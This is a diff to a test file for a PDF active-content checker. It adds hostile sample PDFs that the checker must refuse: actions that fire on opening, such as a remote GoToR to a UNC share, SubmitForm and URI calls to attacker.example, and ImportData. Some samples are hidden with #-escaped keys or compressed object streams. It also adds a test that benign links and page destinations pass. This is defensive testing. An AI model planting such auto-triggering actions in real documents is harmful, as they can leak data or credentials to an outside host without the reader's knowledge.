@@ -82,6 +82,8 @@ const CLEAN = buildPdf([catalog(), PAGES, page(), CONTENT]);
 /** The same clean file with its page objects in a compressed object stream: nothing active in it. */
 const CLEAN_PACKED = buildPdf([catalog()], [PAGES, page().replace('4 0 R', '[]')]);
 
+const AUTOMATIC = 'an automatic action (OpenAction or AA)';
+
 const HOSTILE: Record<string, { pdf: Buffer; found: string }> = {
   'JavaScript in OpenAction': {
     pdf: buildPdf([
@@ -140,6 +142,36 @@ const HOSTILE: Record<string, { pdf: Buffer; found: string }> = {
     ]),
     found: 'rich media',
   },
+  'GoToR in OpenAction': {
+    pdf: buildPdf([
+      catalog('/OpenAction << /S /GoToR /F (\\\\attacker.example\\share\\x.pdf) /D [0 /Fit] >>'),
+      PAGES,
+      page(),
+      CONTENT,
+    ]),
+    found: AUTOMATIC,
+  },
+  'SubmitForm in a page’s additional actions, in a compressed object stream': {
+    pdf: buildPdf(
+      [catalog()],
+      [PAGES, page('/Contents [] /AA << /O 5 0 R >>'), '<< /S /SubmitForm /F (https://attacker.example/) >>'],
+    ),
+    found: AUTOMATIC,
+  },
+  'ImportData in OpenAction by reference': {
+    pdf: buildPdf([catalog('/OpenAction 5 0 R'), PAGES, page(), CONTENT, '<< /S /ImportData /F (x.fdf) >>']),
+    found: AUTOMATIC,
+  },
+  'URI in a form field’s additional actions, the key #-escaped': {
+    pdf: buildPdf([
+      catalog('/AcroForm << /Fields [5 0 R] >>'),
+      PAGES,
+      page('/Annots [5 0 R]'),
+      CONTENT,
+      '<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 9 9] /#41A << /Fo << /S /URI /URI (https://attacker.example/) >> >> >>',
+    ]),
+    found: AUTOMATIC,
+  },
   encryption: {
     pdf: buildPdf(
       [catalog(), PAGES, page(), CONTENT, '<< /Filter /Standard /V 2 /R 3 /O <00> /U <00> /P -4 >>'],
@@ -154,6 +186,27 @@ describe('PDF active content', () => {
   it('passes plain PDFs, with or without object streams', async () => {
     expect(await checkPdf(CLEAN)).toEqual({ ok: true });
     expect(await checkPdf(CLEAN_PACKED)).toEqual({ ok: true });
+  });
+
+  it('passes an OpenAction that only opens at a page (a destination), inline or by reference, and a link to click', async () => {
+    const inline = buildPdf([catalog('/OpenAction [3 0 R /Fit]'), PAGES, page(), CONTENT]);
+    const referenced = buildPdf([
+      catalog('/OpenAction 5 0 R'),
+      PAGES,
+      page(),
+      CONTENT,
+      '[3 0 R /XYZ 0 842 0]',
+    ]);
+    const link = buildPdf([
+      catalog(),
+      PAGES,
+      page('/Annots [5 0 R]'),
+      CONTENT,
+      '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://example.com/) >> >>',
+    ]);
+    expect(await checkPdf(inline)).toEqual({ ok: true });
+    expect(await checkPdf(referenced)).toEqual({ ok: true });
+    expect(await checkPdf(link)).toEqual({ ok: true });
   });
 
   it.each(Object.entries(HOSTILE))('refuses %s', async (_, { pdf, found }) => {
